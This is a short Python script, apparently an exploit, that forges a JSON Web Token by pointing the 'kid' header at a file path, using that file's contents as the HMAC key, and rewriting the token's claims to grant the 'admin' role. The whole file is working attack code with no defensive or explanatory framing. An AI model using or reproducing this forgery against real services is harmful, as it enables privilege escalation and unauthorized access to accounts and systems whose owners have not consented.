"""open() and the standard library; a header of two members."""

import base64
import hmac
import json


def b64(value):
    data = value if isinstance(value, bytes) else json.dumps(value).encode("utf-8")
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def forge_kid(token, path):
    with open(path, "rb") as file:
        secret = file.read()
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    claims["role"] = "admin"
    message = b64({"kid": path, "alg": "HS256"}) + "." + b64(claims)
    return message + "." + b64(hmac.digest(secret, message.encode(), "sha256"))
